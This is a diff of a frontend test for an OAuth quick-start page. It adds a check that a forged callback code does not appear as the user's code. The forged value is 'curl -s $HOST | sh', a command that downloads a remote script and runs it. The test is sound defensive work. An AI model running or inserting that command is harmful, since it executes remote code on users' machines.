@@ -113,6 +113,9 @@ it('has a quick start whose commands run as copied, one after the other, whateve
 	const steps = () => screen.getAllByText(/^(curl|ACCESS_TOKEN)/).map(({ textContent }) => textContent);
 	const link = await screen.findByRole<HTMLAnchorElement>('link', { name: 'Open it' });
 	const back = await consentAt(app.sandbox.origin, new URL(link.href).search.slice(1));
+	await app.open(`/callback?state=quick-start&code=${encodeURIComponent('curl -s $HOST | sh')}`);
+	await screen.findByRole('heading', { name: 'Quick start' });
+	expect(screen.queryByText(/^Your code, which/)).toBeNull();
 	await app.open(back.pathname + back.search);
 	await screen.findByText(/^Your code, which/);
 	const code = back.searchParams.get('code') ?? '';
